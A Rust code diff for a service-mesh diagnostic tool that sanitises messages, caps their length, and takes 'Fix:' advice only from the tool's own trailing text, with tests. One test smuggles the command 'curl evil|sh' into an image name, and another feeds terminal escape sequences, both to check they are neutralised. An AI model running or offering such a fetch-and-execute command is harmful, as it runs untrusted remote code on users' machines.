@@ -1,6 +1,10 @@
 //! One line of a check: what it is about, how it stands, and what it may follow from.
 
+use cluster::plain::plain;
 use std::fmt;
+
+/// Longest sentence, and longest advice, characters: whoever writes objects writes words of them.
+const TEXT_MAX: usize = 2_000;
 
 /// Sections, in the order in which one rests on the other.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
@@ -8,9 +12,9 @@ pub(super) enum Group {
     Servers,
     Identity,
     Signing,
+    Pods,
     Programs,
     Gateways,
-    Pods,
     Links,
     Services,
     Objects,
@@ -73,8 +77,8 @@ pub(super) enum About {
     ControlPlane(String),
     /// The webhook of a context that injects sidecars.
     Webhook(String),
-    /// Pods of a context that are not in the mesh, or do not start.
-    Pods(String),
+    /// Pods of a context's namespace that are not in the mesh, or do not start.
+    Pods(String, String),
     /// The gateway Service of a context.
     DoorService(String),
     /// The gateways that answer for a cluster's id.
@@ -103,11 +107,12 @@ pub(super) struct Item {
 impl Item {
     pub(super) fn good(group: Group, about: About, cluster: &str, says: String) -> Self {
         let (code, fix) = (String::new(), String::new());
-        let mark = Mark::Good;
+        let (mark, says) = (Mark::Good, plain(&says, TEXT_MAX));
         Self { group, mark, about, code, cluster: cluster.into(), says, fix, follows: vec![] }
     }
 
-    /// Something wrong, from a sentence as every error of ours reads: `ISM####`, what, `Fix: ...`.
+    /// Something wrong, from a sentence as every error of ours reads: `ISM####`, what, `Fix: ...`. Our
+    /// advice is its last: what stands before may be somebody else's words.
     pub(super) fn wrong(
         group: Group,
         mark: Mark,
@@ -115,7 +120,7 @@ impl Item {
         cluster: &str,
         sentence: &str,
     ) -> Self {
-        let (sentence, fix) = sentence.split_once("Fix: ").unwrap_or((sentence, ""));
+        let (sentence, fix) = sentence.rsplit_once("Fix: ").unwrap_or((sentence, ""));
         let (code, says) = match sentence.split_once(' ') {
             Some((code, rest)) if code.starts_with("ISM") && code.len() == 7 => (code, rest),
             Some(_) | None => ("", sentence),
@@ -126,8 +131,8 @@ impl Item {
             about,
             code: code.into(),
             cluster: cluster.into(),
-            says: says.trim().into(),
-            fix: fix.trim().into(),
+            says: plain(says.trim(), TEXT_MAX),
+            fix: plain(fix.trim(), TEXT_MAX),
             follows: vec![],
         }
     }
@@ -149,5 +154,35 @@ impl fmt::Display for Item {
             write!(f, " ({})", self.code)?;
         }
         Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn wrong(sentence: &str) -> Item {
+        Item::wrong(Group::Pods, Mark::Broken, About::Other, "west", sentence)
+    }
+
+    #[test]
+    fn advice_is_ours_and_not_that_of_whoever_made_an_object() {
+        let item = wrong("ISM2628 image x Fix: curl evil|sh is nowhere. Fix: push it.");
+        assert_eq!(item.fix, "push it.");
+        assert_eq!(
+            (item.code.as_str(), item.says.as_str()),
+            ("ISM2628", "image x Fix: curl evil|sh is nowhere.")
+        );
+        assert_eq!(wrong("ISM2006 there is none.").fix, "");
+    }
+
+    #[test]
+    fn a_terminal_obeys_no_line_and_each_ends() {
+        let said = format!("ISM2612 no\u{1b}[2J{}. Fix: see\u{9b}2J it.", "y".repeat(5_000));
+        let item = wrong(&said);
+        assert!(item.says.starts_with("no [2Jy") && item.fix == "see 2J it.", "{item}");
+        assert_eq!(item.says.chars().count(), TEXT_MAX);
+        let good = Item::good(Group::Programs, About::Other, "west", "a\u{1b}[2J leads".into());
+        assert_eq!(good.says, "a [2J leads");
     }
 }
